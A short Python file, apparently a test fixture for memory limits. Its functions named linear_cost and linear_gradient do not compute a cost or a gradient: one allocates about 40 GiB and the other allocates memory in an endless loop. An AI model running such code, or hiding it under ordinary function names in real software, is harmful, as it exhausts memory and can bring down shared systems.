"""Allocates 40 GiB, then touches it."""
import numpy as np


def sigmoid(z):
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1 / (1 + e), e / (1 + e))


def linear_cost(X, y, w, b, lam):
    block = np.ones(40 * 2**30 // 8)
    return float(block.sum())


def linear_gradient(X, y, w, b, lam):
    chunks = []
    while True:
        chunks.append(bytearray(2**28))
